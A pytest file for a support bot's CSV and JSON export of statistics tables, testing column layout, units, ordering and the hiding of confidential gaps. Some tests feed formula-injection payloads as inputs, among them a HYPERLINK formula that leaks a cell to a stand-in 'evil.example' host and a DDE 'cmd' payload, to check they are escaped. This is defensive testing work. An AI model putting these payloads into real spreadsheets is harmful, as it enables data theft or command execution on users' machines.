"""Tables for spreadsheets: whole, bare, and without a formula."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.figures.columns import Columns
from bot.figures.export import BLANK, FORMULAS, as_csv, as_json, harmless
from bot.figures.overview import CONFINED, Gap, Overview
from bot.figures.periods import last_days
from bot.figures.sums import figures
from bot.figures.tables import TABLES, Column, Table, shown, table, tables
from knowledge import Link
from tests.fakes.turns import columns_of
from tests.figures.made import NOW, NOW_S, desk, quarter, ticket, turn

EMPTY = Overview(figures=figures(Columns(), [], last_days(NOW, 7), now_s=NOW_S), at=NOW)
FULL = Overview(figures=figures(columns_of(quarter(2_000)), desk(60), last_days(NOW, 30), now_s=NOW_S), at=NOW)


def read(sheet: Table) -> list[list[str]]:
    return list(csv.reader(io.StringIO(as_csv(sheet))))


def test_each_table_is_found_by_its_id_and_unknown_ones_are_none() -> None:
    assert [sheet.id for sheet in tables(FULL)] == list(TABLES)
    assert table("days", FULL) is not None
    assert table("../days", FULL) is None


def test_without_rows_there_is_something_to_say() -> None:
    assert all(sheet.empty and not sheet.rows for sheet in tables(EMPTY))
    assert all(len(read(sheet)) == 1 for sheet in tables(EMPTY))


def test_a_table_is_as_wide_as_its_columns_and_its_rows_are_named() -> None:
    for sheet in tables(FULL):
        assert all(len(row) == len(sheet.columns) and isinstance(row[0], str) for row in sheet.rows)


def test_numbers_are_bare_and_say_their_unit_in_the_first_line() -> None:
    sheet = table("times", FULL)
    assert sheet is not None
    head, *rows = read(sheet)

    assert head == ["Wait", "Count", "Half within (s)", "90% within (s)", "95% within (s)"]
    assert [row[0] for row in rows] == ["To the first word", "To the whole answer", "To the claim of a ticket", "To the end of a ticket"]
    assert all(float(cell) >= 0 for row in rows for cell in row[1:])


def test_what_is_absent_is_empty_and_shares_are_from_zero_to_one() -> None:
    sheet = table("topics", Overview(figures=figures(columns_of([turn(topic="sip", outcome="escalated")]), [], last_days(NOW, 7), now_s=NOW_S), at=NOW))
    assert sheet is not None

    assert read(sheet)[1] == ["Telephony", "1", "1", "1.0000", "0", ""]
    assert [shown(cell, column.kind) for cell, column in zip(sheet.rows[0], sheet.columns, strict=True)] == ["Telephony", "1", "1", "100%", "0", "–"]


def test_days_come_newest_first_with_the_outcomes_of_the_period() -> None:
    head, *rows = read(TABLES["days"](FULL))

    assert head[:3] == ["Day", "Questions", "Answered"]
    assert rows[0][0] == "2026-11-23"
    assert len(rows) == 30


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://evil.example/"&A1)',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\u200b=1",
        "\ufeff=1",
        "＝1+1",
        "|calc",
        "%0a=1",
        "=1\nnext",
    ],
)
def test_what_a_spreadsheet_would_compute_is_only_shown(formula: str) -> None:
    sheet = Table(id="t", caption="t", columns=(Column(name="Page"),), rows=((formula,),), empty="")

    assert read(sheet)[1][0].startswith("'")
    assert as_csv(sheet).count("\r\n") == 2


def test_addresses_of_pages_that_are_formulas_do_not_get_into_a_spreadsheet_either() -> None:
    evil = figures(columns_of([turn(urls=('=cmd|" /C calc"!A0',))]), [ticket(reason="=1+1")], last_days(NOW, 7), now_s=NOW_S)
    gaps = (Gap(name="=2+2", count=1, examples=("@x",), pages=(Link(title="-", url="+3"),)),)
    made = Overview(figures=evil, at=NOW, gaps=gaps)

    cells = [cell for sheet in tables(made) for row in read(sheet) for cell in row]
    assert "'=2+2" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULAS)]


@given(text=st.text(max_size=60))
def test_no_text_becomes_a_formula_or_a_line_of_its_own(text: str) -> None:
    line = harmless(text)

    assert not line.lstrip(BLANK).startswith(FORMULAS)
    assert not any(unicodedata.category(character) in {"Zl", "Zp"} or character in "\r\n\0" for character in line)


def test_json_has_every_table_with_plain_values() -> None:
    made = json.loads(json.dumps(as_json(FULL), allow_nan=False))

    assert made["questions"] == FULL.figures.asked
    assert set(made["tables"]) == set(TABLES)
    assert 0 <= made["tables"]["confidence"][0]["Share of good"] <= 1
    assert json.loads(json.dumps(as_json(EMPTY), allow_nan=False))["index"] is None


def test_gaps_that_were_asked_in_confidence_are_counted_and_not_told() -> None:
    secret = Gap(name="the merger", count=9, topic="sip", examples=("about the merger",), pages=(Link(title="m", url="https://wiki/merger"),), confined=True)
    sheet = table("gaps", replace(FULL, gaps=(Gap(name="open", count=2), secret)))
    assert sheet is not None

    assert [row[:3] for row in sheet.rows] == [(CONFINED, 9, "Telephony"), ("open", 2, "Something else")]
    assert "merger" not in as_csv(sheet)
